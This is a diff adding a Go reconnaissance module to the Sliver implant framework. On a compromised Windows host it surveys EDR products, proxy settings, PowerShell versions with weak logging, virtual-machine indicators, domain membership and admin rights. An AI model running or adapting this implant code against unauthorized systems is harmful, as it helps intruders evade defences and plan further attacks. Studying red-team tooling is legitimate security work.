@@ -0,0 +1,194 @@
+package survey
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2023  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"strings"
+	"unsafe"
+
+	"github.com/bishopfox/sliver/implant/sliver/edr"
+	"github.com/bishopfox/sliver/implant/sliver/syscalls"
+	"github.com/bishopfox/sliver/protobuf/commonpb"
+	"golang.org/x/sys/windows"
+	"golang.org/x/sys/windows/registry"
+)
+
+// guestServices - Services of hypervisor guest tools and integrations
+var guestServices = map[string]string{
+	"vmtools":        "VMware Tools",
+	"vmci":           "VMware VMCI",
+	"vboxguest":      "VirtualBox Guest Additions",
+	"vboxservice":    "VirtualBox Guest Additions",
+	"vmicheartbeat":  "Hyper-V Integration Services",
+	"qemu-ga":        "QEMU Guest Agent",
+	"xenbus":         "Xen PV Drivers",
+	"prl_tools":      "Parallels Tools",
+	"amazonssmagent": "AWS SSM Agent",
+}
+
+func collect() *commonpb.HostSurvey {
+	services := serviceNames()
+	survey := &commonpb.HostSurvey{
+		SecurityProducts: edr.MatchProducts(services),
+		Proxy:            proxySettings(),
+		Runtimes:         runtimes(),
+		Virtualization:   virtualization(services),
+		LocalAdmin:       localAdmin(),
+	}
+	survey.Domain, survey.Forest = domain()
+	return survey
+}
+
+// serviceNames - Names of all installed services and drivers
+func serviceNames() []string {
+	key, err := registry.OpenKey(registry.LOCAL_MACHINE, `SYSTEM\CurrentControlSet\Services`, registry.ENUMERATE_SUB_KEYS)
+	if err != nil {
+		return []string{}
+	}
+	defer key.Close()
+	names, _ := key.ReadSubKeyNames(-1)
+	return names
+}
+
+// domain - The dns names of the domain and forest, the forest is read from the cached
+// domain controller info so no DC is contacted
+func domain() (string, string) {
+	var joinName *uint16
+	var joinStatus uint32
+	err := windows.NetGetJoinInformation(nil, &joinName, &joinStatus)
+	if err != nil {
+		return "", ""
+	}
+	domainName := windows.UTF16PtrToString(joinName)
+	windows.NetApiBufferFree((*byte)(unsafe.Pointer(joinName)))
+	if joinStatus != windows.NetSetupDomainName {
+		return "", ""
+	}
+	buf := make([]uint16, 256)
+	size := uint32(len(buf))
+	if windows.GetComputerNameEx(windows.ComputerNameDnsDomain, &buf[0], &size) == nil && 0 < size {
+		domainName = windows.UTF16ToString(buf[:size])
+	}
+
+	var info *syscalls.DOMAIN_CONTROLLER_INFO
+	err = syscalls.DsGetDcName(nil, nil, nil, nil, syscalls.DS_BACKGROUND_ONLY|syscalls.DS_RETURN_DNS_NAME, &info)
+	if err != nil {
+		return domainName, ""
+	}
+	defer windows.NetApiBufferFree((*byte)(unsafe.Pointer(info)))
+	return domainName, windows.UTF16PtrToString(info.DnsForestName)
+}
+
+// proxySettings - The user's WinINet proxy, and proxy auto-config script
+func proxySettings() string {
+	key, err := registry.OpenKey(registry.CURRENT_USER, `Software\Microsoft\Windows\CurrentVersion\Internet Settings`, registry.QUERY_VALUE)
+	if err != nil {
+		return ""
+	}
+	defer key.Close()
+	proxies := []string{}
+	if enabled, _, _ := key.GetIntegerValue("ProxyEnable"); enabled == 1 {
+		if server, _, err := key.GetStringValue("ProxyServer"); err == nil && server != "" {
+			proxies = append(proxies, server)
+		}
+	}
+	if autoConfig, _, err := key.GetStringValue("AutoConfigURL"); err == nil && autoConfig != "" {
+		proxies = append(proxies, "pac: "+autoConfig)
+	}
+	return strings.Join(proxies, ", ")
+}
+
+// runtimes - Installed .NET Framework and PowerShell versions, PowerShell 2.0
+// is reported separately since it lacks most of the logging of later versions
+func runtimes() []string {
+	found := []string{}
+	if key, err := registry.OpenKey(registry.LOCAL_MACHINE, `SOFTWARE\Microsoft\NET Framework Setup\NDP\v3.5`, registry.QUERY_VALUE); err == nil {
+		if install, _, _ := key.GetIntegerValue("Install"); install == 1 {
+			found = append(found, ".NET Framework 3.5")
+		}
+		key.Close()
+	}
+	if key, err := registry.OpenKey(registry.LOCAL_MACHINE, `SOFTWARE\Microsoft\NET Framework Setup\NDP\v4\Full`, registry.QUERY_VALUE); err == nil {
+		if release, _, err := key.GetIntegerValue("Release"); err == nil {
+			found = append(found, ".NET Framework "+dotNetVersion(release))
+		}
+		key.Close()
+	}
+	for _, engine := range []string{`SOFTWARE\Microsoft\PowerShell\1\PowerShellEngine`, `SOFTWARE\Microsoft\PowerShell\3\PowerShellEngine`} {
+		if key, err := registry.OpenKey(registry.LOCAL_MACHINE, engine, registry.QUERY_VALUE); err == nil {
+			if version, _, err := key.GetStringValue("PowerShellVersion"); err == nil {
+				found = append(found, "PowerShell "+version)
+			}
+			key.Close()
+		}
+	}
+	if key, err := registry.OpenKey(registry.LOCAL_MACHINE, `SOFTWARE\Microsoft\PowerShellCore\InstalledVersions`, registry.ENUMERATE_SUB_KEYS); err == nil {
+		installs, _ := key.ReadSubKeyNames(-1)
+		key.Close()
+		for _, install := range installs {
+			installKey, err := registry.OpenKey(registry.LOCAL_MACHINE, `SOFTWARE\Microsoft\PowerShellCore\InstalledVersions\`+install, registry.QUERY_VALUE)
+			if err != nil {
+				continue
+			}
+			if version, _, err := installKey.GetStringValue("SemanticVersion"); err == nil {
+				found = append(found, "PowerShell "+version)
+			}
+			installKey.Close()
+		}
+	}
+	return found
+}
+
+func virtualization(services []string) []string {
+	indicators := []string{}
+	if key, err := registry.OpenKey(registry.LOCAL_MACHINE, `HARDWARE\DESCRIPTION\System\BIOS`, registry.QUERY_VALUE); err == nil {
+		manufacturer, _, _ := key.GetStringValue("SystemManufacturer")
+		product, _, _ := key.GetStringValue("SystemProductName")
+		key.Close()
+		firmware := strings.TrimSpace(manufacturer + " " + product)
+		if isVirtualized(firmware) {
+			indicators = append(indicators, "bios: "+firmware)
+		}
+	}
+	for _, service := range services {
+		if tools, ok := guestServices[strings.ToLower(service)]; ok {
+			indicators = append(indicators, "service: "+tools)
+		}
+	}
+	return indicators
+}
+
+// localAdmin - The process token has the Administrators group, UAC filtered tokens
+// have it too but only as a deny-only group
+func localAdmin() bool {
+	admins, err := windows.CreateWellKnownSid(windows.WinBuiltinAdministratorsSid)
+	if err != nil {
+		return false
+	}
+	groups, err := windows.GetCurrentProcessToken().GetTokenGroups()
+	if err != nil {
+		return false
+	}
+	for _, group := range groups.AllGroups() {
+		if group.Sid.Equals(admins) {
+			return true
+		}
+	}
+	return false
+}